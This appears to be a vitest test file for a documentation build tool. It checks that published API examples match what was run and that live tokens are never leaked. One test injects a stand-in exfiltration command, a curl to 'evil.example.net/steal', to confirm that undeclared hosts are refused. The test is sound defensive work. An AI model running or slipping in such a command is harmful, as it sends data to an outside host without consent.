import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterEach, beforeAll, expect, test, vi } from 'vitest';
import { copyProject, docs, readTree } from './project.ts';
import { play } from './transcript.ts';

const guide = 'guides/notes/v1/first-note.md';

afterEach(() => vi.unstubAllEnvs());

test('the project whose documentation is true is proven', async () => {
  const { status, folder } = await play({ name: 'honest', whole: true, argv: ['build', '--strict'] });
  expect(status).toBe(0);
  const files = readTree(join(folder, 'out'));
  for (const path of contract) expect(Object.keys(files)).toContain(path);
  expectValid(files['proof/proof.json']);
  expectPublishedAsRun(files);
  expectNothingLive(files);
});

/** What other tools find below `out/`. */
const contract = [
  'site/index.html',
  'site/404.html',
  'site/llms.txt',
  'site/llms-full.txt',
  'site/sitemap.xml',
  'site/feed.xml',
  'site/.well-known/api-catalog',
  'site/notes/v1/sessions/create-session/index.html',
  'site/notes/v1/sessions/create-session/index.md',
  'site/notes/v1/guides/first-note/index.html',
  'site/notes/v1/guides/first-note/index.md',
  'postman/notes-v1.postman_collection.json',
  'postman/notes-v1.api-example-com-v1.postman_environment.json',
  'http/notes/v1.http',
  'snippets/notes/v1/create-session/basic.curl.sh',
  'snippets/notes/v1/list-notes/default.ruby.rb',
  'proof/proof.json',
  'proof/junit.xml',
  'proof/report.html',
  'proof/results.sarif',
];

interface ProofDocument {
  readonly proofs: readonly { readonly id: string; readonly artefact?: { path: string; sha256: string } }[];
}

function expectValid(text = ''): void {
  const schema = JSON.parse(
    readFileSync(new URL('../../schemas/proof.schema.json', import.meta.url), 'utf8'),
  );
  const ajv = new Ajv2020({ strict: false, allErrors: true });
  addFormats.default(ajv);
  ajv.validate(schema, JSON.parse(text));
  expect(ajv.errors).toBeNull();
}

/** The file that was run, the digest in its proof and the text of the page's code element are one. */
function expectPublishedAsRun(files: Readonly<Record<string, string>>): void {
  const { proofs } = JSON.parse(files['proof/proof.json'] ?? '') as ProofDocument;
  const artefacts = proofs.flatMap(({ artefact }) => artefact ?? []);
  expect(artefacts).toHaveLength(4);
  for (const { path, sha256 } of artefacts) {
    const text = files[path] ?? '';
    expect(createHash('sha256').update(text).digest('hex')).toBe(sha256);
    const folder = path.includes('/create-session/') ? 'sessions/create-session' : 'notes/list-notes';
    expect(codeElements(files[`site/notes/v1/${folder}/index.html`])).toContain(text);
  }
}

function codeElements(html = ''): string[] {
  return [...html.matchAll(/<code\b[^>]*>([\s\S]*?)<\/code>/g)].map(([, inner = '']) => decode(inner));
}

function decode(html: string): string {
  const named: Record<string, string> = { lt: '<', gt: '>', quot: '"', amp: '&', apos: "'" };
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&(?:#x([0-9a-f]+)|#(\d+)|(\w+));/gi, (whole, hex, decimal, name) => {
      if (name) return named[name] ?? whole;
      return String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(decimal));
    });
}

/** What a scene takes instead of `ada@example.com`. */
const liveAddress = /ada\.[0-9a-f]+@/;

/** The server marks its tokens with `LIVE0`; those that the documents print may be shown. */
function expectNothingLive(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    expect(text.includes('LIVE0'), path).toBe(false);
    if (path.startsWith('site/')) expect(text, path).not.toMatch(liveAddress);
  }
  expect(files['site/notes/v1/sessions/create-session/index.html']).toContain('at_7Qm2ExampleOnly');
}

test('an answer that is not as documented is shown without the secrets in it', async () => {
  const { status, stdout, folder } = await play({
    name: 'answer-differs',
    changes: {
      'server.mjs': ['[201, { email, access_token: token }]', '[201, { mail: email, access_token: token }]'],
    },
    argv: ['build', '--only', 'createSession', '--only', guide.replace('.md', '')],
  });
  expect(status).toBe(1);
  expect(stdout).toContain('openapi.yaml:40:');
  const files = readTree(join(folder, 'out'));
  expectValid(files['proof/proof.json']);
  expectNothingLive(files);
});

test('a server that quotes a token in an error leaks nothing', async () => {
  const { status, folder } = await play({
    name: 'token-quoted',
    changes: {
      'server.mjs': [
        "? [200, [{ id: 1, text: 'Buy milk' }]]",
        "? [403, { code: 'NO', text: 'at_LIVE0' + randomBytes(8).toString('hex') }]",
      ],
    },
    argv: ['build', '--only', 'listNotes'],
  });
  expect(status).toBe(1);
  expectNothingLive(readTree(join(folder, 'out')));
});

test('a server that quotes what the scene alone knows leaks nothing', async () => {
  const original = readTree(copyProject('notes'))['server.mjs'] ?? '';
  const quoting =
    "? [403, { code: 'NO', text: [authorization, tokens.get(authorization.slice(7))].join(' is ').replace('Bearer ', '') }]";
  const server = original
    .replace('`at_LIVE0', '`LIVE0')
    .replace("? [200, [{ id: 1, text: 'Buy milk' }]]", () => quoting);
  const { status, folder } = await play({
    name: 'live-values-quoted',
    changes: { 'server.mjs': server },
    argv: ['build', '--only', 'listNotes', '--only', guide.replace('.md', '')],
  });
  expect(status).toBe(1);
  expectNothingLive(readTree(join(folder, 'out')));
});

test('a call to a host that nobody declares is refused', async () => {
  const { status, folder } = await play({
    name: 'undeclared-host',
    changes: {
      [guide]: ['cat no-such-file', 'curl --silent --fail https://evil.example.net/steal || exit 1'],
    },
    argv: ['build', '--only', guide.replace('.md', '')],
  });
  expect(status).toBe(1);
  expect(existsSync(join(folder, 'out/site/index.html'))).toBe(true);
});

test('without flows everything that needs one is not proven', async () => {
  const changes = { flows: null, [guide]: null };
  expect((await play({ name: 'no-flows', changes, argv: ['build'] })).status).toBe(0);
});

/** A PATH on which there is all that curl snippets need, and no ruby. */
let withoutRuby = '';
beforeAll(() => {
  const folder = join(dirname(copyProject('notes')), 'bin');
  mkdirSync(folder);
  const folders = (process.env.PATH ?? '').split(delimiter);
  for (const name of ['sh', 'bash', 'curl', 'node', 'cat', 'sed', 'tee']) {
    const program = folders.map((each) => join(each, name)).find((file) => existsSync(file));
    if (program) symlinkSync(program, join(folder, name));
  }
  withoutRuby = folder;
});

const allowed = {
  'docs.config.ts': [
    "ready: '/health',",
    "ready: '/health',\n      allowNotProven: ['ruby is not installed'],",
  ],
} as const;

test.each([
  { name: 'ruby-missing', argv: ['build'], status: 0 },
  { name: 'ruby-missing-strict', argv: ['build', '--strict'], status: 1 },
  { name: 'ruby-missing-allowed', argv: ['build', '--strict'], changes: allowed, status: 0 },
])('$name', async ({ name, argv, changes = {}, status }) => {
  vi.stubEnv('PATH', withoutRuby);
  const ruby = '```ruby\nputs 1\n```\n\n```text output\n1\n```\n';
  const ending = await play({
    name,
    argv,
    changes: { 'guides/notes/v1/ruby.md': `# Ruby\n\n${ruby}`, ...changes },
  });
  expect(ending.status).toBe(status);
});

test('`docs doctor` says what is missing and how to get it', async () => {
  vi.stubEnv('PATH', withoutRuby);
  const { status, stdout } = await docs(copyProject('bare'), ['doctor']);
  expect(status).toBe(0);
  expect(stdout).toMatch(/^ready {4}curl$/m);
  expect(stdout).toMatch(/^missing {2}Ruby.*\n +ruby: not installed; apt-get install ruby$/m);
});
